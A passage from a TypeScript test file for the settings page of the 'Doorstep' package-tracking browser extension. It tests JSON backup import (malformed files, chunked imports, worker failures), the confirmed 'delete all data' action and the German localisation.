      const valid = { ...file, packages: await db.packages.toArray() };
      chooseFile(input, new File([JSON.stringify(valid)], 'again.json', { type: 'application/json' }));
      // (The store still counts one of the three as updated: that judgement is the repository's, the report says
      // what it was told, and the unchanged ones are no longer missing from it.)
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] p')).toMatch(
          /^Imported: 0 new, [01] updated, [23] unchanged, 0 rejected\.$/,
        ),
      );
    });

    it('reports a file that is not an export, or a store that failed, without losing anything', async () => {
      const m = await ready();
      const input = must(m.ui.$('input[type="file"]')) as HTMLInputElement;
      chooseFile(input, new File(['{"packages": [oops'], 'broken.json'));
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] .field-error')).toBe(en('importNotJson')),
      );
      chooseFile(input, new File(['{"settings": {}}'], 'other.json'));
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] .field-error')).toBe(
          'This JSON file is not a Doorstep export.',
        ),
      );
      chooseFile(input, new File(['[{"id": 1}]'], 'bad.json'));
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] .field-error')).toBe(en('importNothingValid')),
      );
      expect(m.ui.text('[data-testid="import-report"] li')).toMatch(/^Record 1: /);
      // Only the file that is an export reached the background, and nothing of it was stored.
      expect(m.background.sent.map((msg) => msg.type)).toEqual(['import-staged']);
      expect(await db.packages.count()).toBe(0);

      m.background.overrides['import-staged'] = { ok: false, code: 'internal', detail: 'internal error' };
      chooseFile(input, new File([JSON.stringify(threePackages(NOW))], 'good.json'));
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] .field-error')).toBe(
          'Import failed: something went wrong inside Doorstep',
        ),
      );
      expect(m.background.sent.map((msg) => msg.type)).toEqual(['import-staged', 'import-staged']);
      expect(m.ui.text('[data-testid="import-report"]')).not.toContain('Imported:');
      // The chunk the worker refused is not left behind in the database.
      expect(await db.importChunks.count()).toBe(0);
    });

    it('imports a long file in chunks with progress, and says how far it got when the worker stops', async () => {
      const m = await ready();
      m.background.limits.answered = 1;
      // Three good packages and junk: two chunks; the worker answers the first and then stops.
      const junk = new Array(IMPORT_CHUNK_RECORDS * 2 - 3).fill(0);
      const file = { format: 'doorstep-export', version: 1, packages: [...threePackages(NOW), ...junk] };
      const input = must(m.ui.$('input[type="file"]')) as HTMLInputElement;
      chooseFile(input, new File([JSON.stringify(file)], 'long.json', { type: 'application/json' }));
      await waitFor(() => expect(m.ui.text('[data-testid="import-report"] .field-error')).not.toBe(''));
      const total = (IMPORT_CHUNK_RECORDS * 2).toLocaleString('en');
      const half = IMPORT_CHUNK_RECORDS.toLocaleString('en');
      expect(m.ui.text('[data-testid="import-report"] .field-error')).toBe(
        `The import stopped after ${half} of ${total} records: Doorstep’s background is not available right now: try again. Those are stored; choose the same file again to import the rest (records already stored are merged, never duplicated).`,
      );
      expect(m.ui.text('[data-testid="import-report"] p:not(.field-error)')).toBe(
        `Imported: 3 new, 0 updated, 0 unchanged, ${IMPORT_CHUNK_RECORDS - 3} rejected.`,
      );
      expect(m.ui.text('[data-testid="import-progress"]')).toBe('');
      expect(await db.packages.count()).toBe(3);
      expect(input.disabled).toBe(false);

      // The worker is back: the same file again finishes the import, and nothing is doubled.
      m.background.limits.answered = undefined;
      chooseFile(input, new File([JSON.stringify(file)], 'long.json', { type: 'application/json' }));
      await waitFor(() =>
        expect(m.ui.text('[data-testid="import-report"] p')).toBe(
          `Imported: 0 new, 0 updated, 3 unchanged, ${IMPORT_CHUNK_RECORDS * 2 - 3} rejected.`,
        ),
      );
      expect(await db.packages.count()).toBe(3);
    });

    it('deletes all data only after confirmation, through the background, and clears the synced copy', async () => {
      await db.packages.bulkPut(packages());
      const m = await ready();
      m.ui.click(button(m, 'Delete all data…'));
      await waitFor(() => expect(m.ui.$('[role="alertdialog"]')).not.toBeNull());
      expect(m.ui.text('#confirm-text')).toMatch(
        /^Delete all 3 packages from this device and the synced copy\?/,
      );
      expect(m.background.sent).toEqual([]);
      m.ui.click(button(m, 'Cancel'));
      await waitFor(() => expect(m.ui.$('[role="alertdialog"]')).toBeNull());
      expect(await db.packages.count()).toBe(3);

      m.ui.click(button(m, 'Delete all data…'));
      await waitFor(() => expect(m.ui.$('[role="alertdialog"]')).not.toBeNull());
      m.ui.click(button(m, 'Yes, delete everything'));
      await waitFor(() =>
        expect(m.ui.$$('[role="status"]').some((s) => s.textContent === 'All packages were deleted.')).toBe(
          true,
        ),
      );
      expect(m.background.sent).toEqual([{ type: 'delete-all' }]);
      expect(m.synced.cleared).toBe(1);
      expect(m.ui.$('[role="alertdialog"]')).toBeNull();
      await waitFor(() => expect(m.ui.text('[data-testid="count"]')).toBe('0'));
      expect(await db.packages.count()).toBe(0);
    });

    it('shows why deleting failed and keeps the data and the synced copy', async () => {
      await db.packages.bulkPut(packages());
      const m = await ready();
      m.background.overrides['delete-all'] = { ok: false, code: 'internal', detail: 'database is locked' };
      m.ui.click(button(m, 'Delete all data…'));
      await waitFor(() => expect(m.ui.$('[role="alertdialog"]')).not.toBeNull());
      m.ui.click(button(m, 'Yes, delete everything'));
      await waitFor(() =>
        expect(
          m.ui
            .$$('[role="status"]')
            .some((s) => s.textContent === 'Could not do that: something went wrong inside Doorstep'),
        ).toBe(true),
      );
      expect(m.synced.cleared).toBe(0);
      expect(await db.packages.count()).toBe(3);
      expect(m.ui.text('[data-testid="count"]')).toBe('3');
    });
  });

  it('speaks German when the browser does', async () => {
    const m = await ready({ lang: 'de' });
    expect(m.ui.text('h1')).toBe('Doorstep-Einstellungen');
    expect(
      m.ui.text('label.all-sites span').startsWith('Auf jeder besuchten Website nach Paketen suchen'),
    ).toBe(true);
    expect(button(m, 'Alle Daten löschen…')).toBeDefined();
    expect(button(m, 'JSON-Sicherung exportieren')).toBeDefined();
    expect(
      Array.from(select(m, 'E-Mail (Gmail, Outlook, Yahoo)').querySelectorAll('option')).map(
        (o) => o.textContent,
      ),
    ).toEqual(['Automatisch', 'Nachfragen (Schaltfläche)', 'Aus']);
    expect(m.ui.$$('#refresh-interval option').map((o) => o.textContent)).toContain('Stündlich');
    await enterText(m.ui.$('#stale-days'), '99');
    await waitFor(() => expect(m.ui.text('#stale-days-help')).toBe('Gib eine ganze Zahl von 1 bis 60 ein.'));
    m.ui.type(select(m, 'Andere Websites'), 'off');
    await waitFor(() => expect(m.ui.text('.save-status')).toBe('Gespeichert.'));
  });
});
